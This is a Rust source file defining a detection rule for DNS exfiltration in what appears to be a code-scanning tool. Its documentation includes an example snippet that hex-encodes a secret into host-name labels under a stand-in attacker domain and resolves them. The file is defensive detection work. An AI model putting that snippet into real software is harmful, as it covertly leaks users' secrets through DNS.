use crate::facts::Cap;
use crate::report::Severity;
use crate::rules::{Family, Hit, Input, RuleInfo, in_context};

pub static INFO: RuleInfo = RuleInfo {
    code: "EXF004",
    name: "dns-exfiltration",
    family: Family::Exfiltration,
    severity: Severity::Critical,
    summary: "data is encoded into host-name labels and resolved",
    doc: "## What it detects\nA host name built at run time from a template like `format!(\"{}.{}.c.example.com\", chunk, id)` and passed to a resolver (`to_socket_addrs`, `lookup_host`, a DNS client), in a function that also reads a secret or host identity.\n\n## Why\nDNS queries leave almost every network, even ones that block outbound HTTP; encoding stolen data in labels of an attacker-controlled domain is a classic exfiltration channel.\n\n## Example\n```rust\nfor chunk in hex::encode(secret).as_bytes().chunks(60) {\n    let _ = (format!(\"{}.x.exfil.example\", std::str::from_utf8(chunk)?), 53).to_socket_addrs();\n}\n```\n\n## Known false positives\nDNS tools that build reverse-lookup names (`{}.in-addr.arpa`) or service names do not read secrets in the same function: reported as low.",
};

pub struct Rule;

impl crate::rules::Rule for Rule {
    fn info(&self) -> &'static RuleInfo {
        &INFO
    }
    fn check(&self, i: &Input, out: &mut Vec<Hit>) {
        for f in &i.facts.files {
            if let Some(flow) = f.flows.iter().find(|fl| fl.sink.contains("DNS") || fl.sink.contains("lookup")) {
                out.push(Hit::new(
                    in_context(Severity::Critical, f.context),
                    &f.path,
                    flow.line,
                    format!("{} (line {}) is resolved as a host name through {} in `{}`", flow.source, flow.source_line, flow.sink, flow.func),
                ));
                continue;
            }
            let Some(e) = f.find(|c| matches!(c, Cap::DnsDynamic)) else { continue };
            let source_here = f.evidence.iter().any(|x| {
                x.func == e.func && (super::secret_source(&x.cap).is_some() || matches!(x.cap, Cap::Fingerprint { .. }))
            }) || f.flows.iter().any(|fl| fl.func == e.func.clone().unwrap_or_default() && fl.source != "a parameter");
            let sev = if source_here { Severity::Critical } else { Severity::Low };
            let what = if source_here { "encodes secrets or host identity into a DNS name and resolves it" } else { "resolves a host name built from data" };
            out.push(Hit::new(in_context(sev, f.context), &f.path, e.line, what.to_string()));
        }
    }
}
